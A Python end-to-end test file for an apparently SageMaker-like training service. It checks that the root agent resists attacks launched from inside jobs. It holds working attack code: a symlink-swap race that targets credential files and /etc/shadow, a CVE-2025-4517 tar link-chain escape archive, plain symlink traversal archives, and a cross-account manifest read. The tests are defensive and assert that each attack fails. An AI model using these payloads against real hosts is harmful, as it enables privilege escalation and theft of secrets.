"""What the agent (root) does with a job's tree, attacked from inside real jobs.

The agent packs the model, uploads checkpoints and output, and empties the tree after
a job; a job's other instances run on as the same user, so "the job is over" does not
mean "nobody can change its tree". Each test here changes the tree under the agent's
feet from a job's process that is still running, or hands the agent hostile archives
and listings, and checks that nothing of the host comes out.
"""

from __future__ import annotations

import io
import json
import tarfile
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError

from dockyard.compute.sandbox.limits import Cgroup
from tests.e2e.test_sandbox import SERVER_SECRET, finish, job, model, output, secrets_of, why
from tests.harness import UID, WAIT_FOR_GATE, DockyardServer, instance_root, open_gate


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DockyardServer]:
    tmp = tmp_path_factory.mktemp("tree")
    server = DockyardServer(tmp / "data")
    server.extra_env = {"DOCKYARD_S3_SECRET_ACCESS_KEY": SERVER_SECRET}
    server.start()
    for bucket in ("results", "data"):
        (server.data_dir / "s3" / bucket).mkdir(parents=True, exist_ok=True)
    yield server
    server.stop()


# algo-1 hands a descriptor of its /opt/ml to algo-2 (they share a network namespace,
# so an abstract unix socket) and ends. algo-2, still running as the same user, waits
# until algo-1's agent opens the first (big) file of the model's `sub` directory to pack
# it, then swaps `sub` for a link to the data dir: the agent, still busy with that file,
# next reads `sub/credentials`, `sub/master.key`... - through the link, if it goes by
# path. The same for the checkpoints' `sub` and /etc (`passwd`, `shadow`).
HANDOFF = """
    import ctypes, os, select, socket, struct, sys, time
    HOST = os.environ["SM_CURRENT_HOST"]
    NAME = b"\\0dockyard-tree-attack-" + os.environ["TRAINING_JOB_NAME"].encode()
    ATTACKS = [
        ("model/sub", {data_dir!r}, ["credentials", "master.key", "operator.key"]),
        ("checkpoints/sub", "/etc", ["passwd", "shadow"]),
    ]

    if HOST == "algo-1":
        for sub, _, names in ATTACKS:
            os.makedirs(f"/opt/ml/{{sub}}")
            with open(f"/opt/ml/{{sub}}/a-first", "wb") as handle:
                handle.write(os.urandom(48 * 1024 * 1024))  # packing it takes a while
            for name in names:
                with open(f"/opt/ml/{{sub}}/{{name}}", "w") as handle:
                    handle.write("own")
        tree = os.open("/opt/ml", os.O_RDONLY | os.O_DIRECTORY)
        deadline = time.monotonic() + 60
        while True:
            try:
                sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                sock.connect(NAME)
                break
            except OSError:
                sock.close()
                assert time.monotonic() < deadline
                time.sleep(0.05)
        sock.sendmsg([b"t"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", tree))])
        sock.recv(1)
        print("handed over", flush=True)
        sys.exit(0)

    libc = ctypes.CDLL(None, use_errno=True)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(NAME)
    server.listen(1)
    conn, _ = server.accept()
    _, ancillary, _, _ = conn.recvmsg(1, socket.CMSG_SPACE(4))
    tree = struct.unpack("i", ancillary[0][2][:4])[0]
    conn.sendall(b"k")
    conn.close()
    IN_OPEN = 0x20
    for sub, target, _ in ATTACKS:
        notify = libc.inotify_init1(0)
        path = f"/proc/self/fd/{{tree}}/{{sub}}".encode()
        if libc.inotify_add_watch(notify, path, IN_OPEN) < 0:
            print(f"refused watching {{sub}}: {{os.strerror(ctypes.get_errno())}}", flush=True)
        elif select.select([notify], [], [], 120)[0]:
            os.read(notify, 4096)  # the agent opened a file in it
        os.close(notify)
        try:
            os.rename(sub, sub + "-old", src_dir_fd=tree, dst_dir_fd=tree)
            os.symlink(target, sub, dir_fd=tree)
            print(f"swapped {{sub}}", flush=True)
        except OSError as exc:
            print(f"refused {{sub}}: {{exc.strerror}}", flush=True)
"""


def test_another_instance_cannot_turn_the_agents_walk_onto_the_host(
    box: DockyardServer,
) -> None:
    client = box.client()
    code = HANDOFF.format(data_dir=str(box.data_dir))
    name = "handoff"
    request = job(
        box,
        name,
        code,
        ResourceConfig={"InstanceCount": 2},
        CheckpointConfig={"S3Uri": "s3://results/checkpoints/handoff"},
    )
    client.create_training_job(**request)
    done = finish(client, name, timeout=300)
    logs = "\n".join(output(box, name) + _host_output(box, name, "algo-2"))
    assert "handed over" in logs, why(done) + logs
    packed = model(box, name)
    for secret in secrets_of(box):
        assert not any(secret.encode() in content for content in packed.values()), logs
    checkpoints = box.data_dir / "s3" / "results" / "checkpoints" / name
    for path in checkpoints.rglob("*"):
        assert not path.is_file() or b"root:" not in path.read_bytes(), (path, logs)
    assert done["TrainingJobStatus"] == "Completed", why(done) + logs
    assert packed["sub/credentials"] == b"own"
    # The tree was root's before the agent read it: algo-2 could not swap anything.
    assert "swapped" not in logs and "refused" in logs, logs


def _host_output(server: DockyardServer, name: str, host: str) -> list[str]:
    logs = (server.data_dir / "instances").glob(f"*-{name}-{UID}/{host}/logs/output.jsonl")
    return [json.loads(line)["m"] for path in logs for line in path.read_text().splitlines()]


def _archive(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for info, body in members:
            if body is not None:
                info.size = len(body)
                tar.addfile(info, io.BytesIO(body))
            else:
                tar.addfile(info)
    return buffer.getvalue()


def _entry(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o644 if kind == tarfile.REGTYPE else 0o755
    return info


def _link_chain_escape(ups: int, file: str) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    """CVE-2025-4517's archive: a chain of links whose resolved path is longer than the
    system resolves, so tarfile's "data" filter (before Python 3.11.13) sees a path
    inside the directory where the kernel then follows the links out of it; `ups`
    levels above the extraction directory, `file` is written."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
    path = ""
    for step in steps:
        members.append((_entry(f"{path}{comp}", tarfile.DIRTYPE), None))
        members.append((_entry(f"{path}{step}", tarfile.SYMTYPE, comp), None))
        path += comp + "/"
    link = "/".join(steps) + "/" + "l" * 254
    members.append((_entry(link, tarfile.SYMTYPE, "/".join([".."] * len(steps))), None))
    members.append((_entry("escape", tarfile.SYMTYPE, link + "/.." * ups), None))
    members.append((_entry(f"escape/{file}"), b"written through a link"))
    return members


@pytest.mark.parametrize("kind", ["plain-links", "link-chain"])
def test_a_hostile_source_archive_writes_nothing_outside_the_code_dir(
    box: DockyardServer, kind: str
) -> None:
    """The code archive is unpacked by the agent (root): links in it, then files
    written through them, must not land anywhere but /opt/ml/code."""
    outside = box.data_dir.parent
    escaped = f"escaped-{kind}"
    if kind == "plain-links":
        members = [
            (_entry("out", tarfile.SYMTYPE, str(outside)), None),
            (_entry(f"out/{escaped}"), b"written through a link"),
        ]
    else:
        # <data dir>/instances/<key>/algo-1/opt/ml/code: seven levels below `outside`.
        members = _link_chain_escape(7, escaped)
    archive = _archive([(_entry("train.py"), b"print('ran')\n"), *members])
    path = box.data_dir / "s3" / "data" / "code" / f"{kind}.tar.gz"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(archive)
    client = box.client()
    name = f"hostile-{kind}"
    request = job(box, name, "")
    request["HyperParameters"]["sagemaker_submit_directory"] = f'"s3://data/code/{kind}.tar.gz"'
    client.create_training_job(**request)
    done = finish(client, name)
    assert not (outside / escaped).exists()
    assert done["TrainingJobStatus"] == "Failed", why(done)
    assert "source archive" in done["FailureReason"], done["FailureReason"]


def test_a_plain_source_archive_with_links_inside_still_runs(box: DockyardServer) -> None:
    archive = _archive(
        [
            (_entry("pkg", tarfile.DIRTYPE), None),
            (_entry("pkg/real.py"), b"VALUE = 'linked'\n"),
            (_entry("pkg/alias.py", tarfile.SYMTYPE, "real.py"), None),
            (_entry("again.py", tarfile.LNKTYPE, "pkg/real.py"), None),
            (
                _entry("train.py"),
                textwrap.dedent(
                    """
                    import os
                    from pkg.alias import VALUE
                    from again import VALUE as AGAIN
                    open(os.path.join(os.environ["SM_MODEL_DIR"], "v"), "w").write(VALUE + AGAIN)
                    """
                ).encode(),
            ),
        ]
    )
    path = box.data_dir / "s3" / "data" / "code" / "links.tar.gz"
    path.write_bytes(archive)
    client = box.client()
    request = job(box, "linked-archive", "")
    request["HyperParameters"]["sagemaker_submit_directory"] = '"s3://data/code/links.tar.gz"'
    client.create_training_job(**request)
    done = finish(client, "linked-archive")
    assert done["TrainingJobStatus"] == "Completed", why(done)
    assert model(box, "linked-archive")["v"] == b"linkedlinked"


# -- the agent's S3: the job's account's buckets only ------------------------------------


COPY_CHANNEL = """
    import os, shutil
    source = "/opt/ml/input/data/train"
    for name in os.listdir(source):
        shutil.copy(os.path.join(source, name), os.environ["SM_MODEL_DIR"])
"""


def _manifest_channel(uri: str) -> dict[str, Any]:
    source = {"S3DataType": "ManifestFile", "S3Uri": uri}
    return {"ChannelName": "train", "DataSource": {"S3DataSource": source}}


def test_a_manifest_cannot_stage_another_accounts_objects(box: DockyardServer) -> None:
    """The agent reads every object a manifest lists: its prefix may name any bucket,
    which the request's check never saw."""
    victim = box.client("s3")
    box.own_bucket("victim-store")
    victim.put_object(Bucket="victim-store", Key="secret.txt", Body=b"the victim's secret")
    _, attacker = box.new_account("manifest-attacker")
    box.own_bucket("attacker-store", key=attacker)
    manifest = json.dumps([{"prefix": "s3://victim-store/"}, "secret.txt"]).encode()
    box.client("s3", key=attacker).put_object(Bucket="attacker-store", Key="m.json", Body=manifest)
    channel = _manifest_channel("s3://attacker-store/m.json")
    client = box.client(key=attacker)
    request = job(box, "manifest-thief", COPY_CHANNEL, bucket="attacker-store")
    client.create_training_job(**request, InputDataConfig=[channel])
    done = finish(client, "manifest-thief")
    assert done["TrainingJobStatus"] == "Failed", why(done)
    assert "AccessDenied" in done["FailureReason"] and "victim-store" in done["FailureReason"]
    staged = (box.data_dir / "instances").glob(f"*-manifest-thief-{UID}/algo-1/opt/ml/input")
    assert not any(path.is_file() for root in staged for path in root.rglob("secret.txt"))


def test_a_bucket_made_by_another_account_while_the_job_ran_gets_nothing(
    box: DockyardServer,
) -> None:
    """Checked when the job was created (nobody's then), the output bucket is another
    account's by the time the agent uploads: the upload is refused."""
    _, attacker = box.new_account("late-attacker")
    box.own_bucket("late-code", key=attacker)
    client = box.client(key=attacker)
    request = job(box, "late-upload", WAIT_FOR_GATE, bucket="late-code")
    request["OutputDataConfig"] = {"S3OutputPath": "s3://late-bucket/out"}
    client.create_training_job(**request)
    deadline = time.monotonic() + 60
    while "up" not in output(box, "late-upload"):  # the job runs, at its gate
        assert time.monotonic() < deadline
        time.sleep(0.05)
    box.own_bucket("late-bucket")  # the development account's, from now on
    open_gate(box, "late-upload")
    done = finish(client, "late-upload")
    assert done["TrainingJobStatus"] == "Failed", why(done)
    assert "AccessDenied" in done["FailureReason"] and "late-bucket" in done["FailureReason"]
    assert not box.client("s3").list_objects_v2(Bucket="late-bucket").get("Contents")


def test_a_job_still_reads_and_writes_its_own_accounts_buckets(box: DockyardServer) -> None:
    _, owner = box.new_account("manifest-owner")
    box.own_bucket("owner-data", key=owner)
    box.own_bucket("owner-more", key=owner)
    s3 = box.client("s3", key=owner)
    s3.put_object(Bucket="owner-more", Key="part/x.txt", Body=b"mine")
    manifest = json.dumps([{"prefix": "s3://owner-more/part/"}, "x.txt"]).encode()
    s3.put_object(Bucket="owner-data", Key="m.json", Body=manifest)
    channel = _manifest_channel("s3://owner-data/m.json")
    client = box.client(key=owner)
    request = job(box, "manifest-own", COPY_CHANNEL, bucket="owner-data")
    client.create_training_job(**request, InputDataConfig=[channel])
    done = finish(client, "manifest-own")
    assert done["TrainingJobStatus"] == "Completed", why(done)
    assert model(box, "manifest-own", bucket="owner-data")["x.txt"] == b"mine"


# -- what is left of a job ---------------------------------------------------------------

BIG_TREE = """
    import os
    for directory in ("SM_MODEL_DIR", "SM_OUTPUT_DATA_DIR"):
        with open(os.path.join(os.environ[directory], "big.bin"), "wb") as handle:
            handle.write(os.urandom(4 * 1024 * 1024))
    print("wrote", flush=True)
"""
# What an ended instance keeps: what the API reads (state, log, metrics, its spec) and
# the agent's own small files.
KEPT = {"job.json", "state.json", "logs", "agent.pid", "agent.lock", "attempt", "agent.log"}


def _left(server: DockyardServer, name: str) -> set[str]:
    return {
        path.name
        for root in (server.data_dir / "instances").glob(f"*-{name}-{UID}/algo-*")
        for path in root.iterdir()
    }


def test_an_ended_job_keeps_its_logs_and_state_only_and_a_deleted_one_nothing(
    box: DockyardServer,
) -> None:
    client = box.client()
    client.create_training_job(**job(box, "leftovers", BIG_TREE))
    done = finish(client, "leftovers")
    assert done["TrainingJobStatus"] == "Completed", why(done)
    assert len(model(box, "leftovers")["big.bin"]) == 4 * 1024 * 1024
    deadline = time.monotonic() + 60
    while not _left(box, "leftovers") <= KEPT:  # the agent removes the rest as it exits
        assert time.monotonic() < deadline, _left(box, "leftovers")
        time.sleep(0.1)
    assert "wrote" in output(box, "leftovers")
    logs = box.client("logs")
    group = "/aws/sagemaker/TrainingJobs"
    streams = logs.describe_log_streams(logGroupName=group, logStreamNamePrefix="leftovers/")
    stream = streams["logStreams"][0]["logStreamName"]
    events = logs.get_log_events(logGroupName=group, logStreamName=stream, startFromHead=True)
    assert [e["message"] for e in events["events"]] == ["wrote"]
    client.delete_training_job(TrainingJobName="leftovers")
    deadline = time.monotonic() + 60
    while list((box.data_dir / "instances").glob(f"*-leftovers-{UID}")):
        assert time.monotonic() < deadline
        time.sleep(0.1)


def test_a_deleted_jobs_pool_home_goes_once_the_pool_it_handed_on_ends(
    box: DockyardServer,
) -> None:
    client = box.client()
    keep = {"ResourceConfig": {"KeepAlivePeriodInSeconds": 600}}
    for name in ("pool-first", "pool-second"):
        client.create_training_job(**job(box, name, BIG_TREE, **keep))
        assert finish(client, name)["TrainingJobStatus"] == "Completed"
        _wait_pool(client, name, "Available")
    first = client.describe_training_job(TrainingJobName="pool-first")["WarmPoolStatus"]
    assert first["Status"] == "Reused"
    home = next((box.data_dir / "instances").glob(f"*-pool-first-{UID}"))
    # The first job goes; its instances' home is where the second job's pool lives.
    client.delete_training_job(TrainingJobName="pool-first")
    client.describe_training_job(TrainingJobName="pool-second")  # a pass has run since
    assert (home / "algo-1" / "agent.lock").exists()
    # A kept pool keeps only its cache of the tree: the second job's model is gone.
    tree = home / "algo-1" / "opt" / "ml"
    assert not any(tree.rglob("big.bin"))
    client.update_training_job(
        TrainingJobName="pool-second", ResourceConfig={"KeepAlivePeriodInSeconds": 0}
    )
    deadline = time.monotonic() + 60
    while home.exists():
        assert time.monotonic() < deadline, list(home.rglob("*"))[:20]
        time.sleep(0.1)


def _wait_pool(client: Any, name: str, status: str) -> None:
    deadline = time.monotonic() + 60
    while client.describe_training_job(TrainingJobName=name)["WarmPoolStatus"]["Status"] != status:
        assert time.monotonic() < deadline
        time.sleep(0.1)


# -- what a job writes: held to its volume, and the agent's work for it charged to it ----

SPARSE = """
    import os, time
    with open(os.path.join(os.environ["{directory}"], "sparse.bin"), "wb") as handle:
        handle.truncate(2 * 1024**3)  # 2 GiB that take no disk
    print("written", flush=True)
    time.sleep({sleep})
"""


@pytest.mark.parametrize(
    ("name", "directory", "sleep", "reason"),
    [
        # Ends at once: the outputs' sizes are checked before anything is packed.
        ("sparse-model", "SM_MODEL_DIR", 0, "more than its volume"),
        # Runs on: what it wrote is measured while it runs.
        ("sparse-home", "HOME", 300, "more than its volume holds"),
    ],
)
def test_what_a_job_writes_is_held_to_its_volume(
    box: DockyardServer, name: str, directory: str, sleep: int, reason: str
) -> None:
    client = box.client()
    code = SPARSE.format(directory=directory, sleep=sleep)
    client.create_training_job(**job(box, name, code, ResourceConfig={"VolumeSizeInGB": 1}))
    done = finish(client, name)
    assert done["TrainingJobStatus"] == "Failed", why(done)
    assert reason in done["FailureReason"] and "VolumeSizeInGB" in done["FailureReason"]
    if directory == "SM_MODEL_DIR":  # 2 GiB of zeros were never packed nor copied
        assert not (box.data_dir / "s3" / "results" / "out" / name).exists()


def _agents_in_cgroup(root: Path) -> set[str]:
    """The processes of the instance's cgroup that are the agent's (its forks)."""
    found = Cgroup.of(root)
    assert found is not None
    agents = set()
    for directory in found[0].dirs:
        try:
            pids = (directory / "cgroup.procs").read_text().split()
        except OSError:
            continue
        for pid in pids:
            try:
                command = Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            if b"dockyard.compute.agent" in command:
                agents.add(pid)
    return agents


def test_the_jobs_output_is_read_in_its_cgroup(box: DockyardServer) -> None:
    """A job printing as fast as it can costs its log's reader as much: the job's own
    CPU, not the host's. (The reader is the agent's child that stays in the cgroup for
    as long as the job prints.)"""
    client = box.client()
    code = """
        import os, time
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline and not os.path.exists("/opt/ml/input/go"):
            print("", flush=True)
    """
    client.create_training_job(**job(box, "flood", code))
    root = instance_root(box, "flood")
    deadline = time.monotonic() + 60
    while True:
        before = _agents_in_cgroup(root)
        time.sleep(1.5)
        if before & _agents_in_cgroup(root):
            break
        assert time.monotonic() < deadline
    open_gate(box, "flood")
    assert finish(client, "flood")["TrainingJobStatus"] == "Completed"


def test_the_agents_packing_runs_in_the_jobs_cgroup(box: DockyardServer) -> None:
    """Compressing a job's model costs what the job left: it is the job's to pay for."""
    code = """
        import os
        with open(os.path.join(os.environ["SM_MODEL_DIR"], "noise.bin"), "wb") as handle:
            handle.write(os.urandom(160 * 1024 * 1024))  # gzip takes its time over it
    """
    client = box.client()
    client.create_training_job(**job(box, "charged", code))
    root = instance_root(box, "charged")
    found = Cgroup.of(root)
    assert found is not None
    procs = [directory / "cgroup.procs" for directory in found[0].dirs]
    seen: set[str] = set()
    deadline = time.monotonic() + 120
    while not any("dockyard.compute.agent" in command for command in seen):
        status = client.describe_training_job(TrainingJobName="charged")["TrainingJobStatus"]
        assert status == "InProgress" and time.monotonic() < deadline, (status, seen)
        for path in procs:
            try:
                pids = path.read_text().split()
            except OSError:
                continue
            for pid in pids:
                try:
                    seen.add(Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"))
                except OSError:
                    continue
        time.sleep(0.05)
    done = finish(client, "charged")
    assert done["TrainingJobStatus"] == "Completed", why(done)
    assert len(model(box, "charged")["noise.bin"]) == 160 * 1024 * 1024


def test_links_a_pool_leaves_in_its_cache_are_never_written_through(
    box: DockyardServer,
) -> None:
    """A warm pool's cache is its jobs' own from job to job: the agent, root, never
    stages anything into it (where the last job could have left links to host files)."""
    target = box.data_dir.parent / "pool-cache-target"
    client = box.client()
    keep = {"ResourceConfig": {"KeepAlivePeriodInSeconds": 600}}
    plant = f"""
        import os
        cache = os.environ["SAGEMAKER_MANAGED_WARMPOOL_CACHE_DIRECTORY"]
        os.makedirs(cache + "/ck", exist_ok=True)
        os.symlink({str(target)!r}, cache + "/ck/proof.txt")
    """
    client.create_training_job(**job(box, "cache-plant", plant, **keep))
    assert finish(client, "cache-plant")["TrainingJobStatus"] == "Completed"
    _wait_pool(client, "cache-plant", "Available")
    checkpoints = box.data_dir / "s3" / "results" / "ck-cache"
    checkpoints.mkdir(parents=True, exist_ok=True)
    (checkpoints / "proof.txt").write_text("written through a link")
    with pytest.raises(ClientError) as refused:
        client.create_training_job(
            **job(
                box,
                "cache-fire",
                "print('hi')",
                CheckpointConfig={
                    "S3Uri": "s3://results/ck-cache/",
                    "LocalPath": "/opt/ml/sagemaker/warmpoolcache/ck",
                },
                **keep,
            )
        )
    assert refused.value.response["Error"]["Code"] == "ValidationException"
    assert "CheckpointConfig.LocalPath" in str(refused.value)
    # The next job on the pool, with its checkpoints where they belong, stages no less.
    client.create_training_job(
        **job(
            box,
            "cache-next",
            "import os; print(sorted(os.listdir('/opt/ml/checkpoints')))",
            CheckpointConfig={"S3Uri": "s3://results/ck-cache/"},
            **keep,
        )
    )
    done = finish(client, "cache-next")
    assert done["TrainingJobStatus"] == "Completed", why(done)
    assert (
        client.describe_training_job(TrainingJobName="cache-plant")["WarmPoolStatus"]["Status"]
        == "Reused"
    )
    assert "['proof.txt']" in output(box, "cache-next")
    assert not target.exists()
    client.update_training_job(
        TrainingJobName="cache-next", ResourceConfig={"KeepAlivePeriodInSeconds": 0}
    )
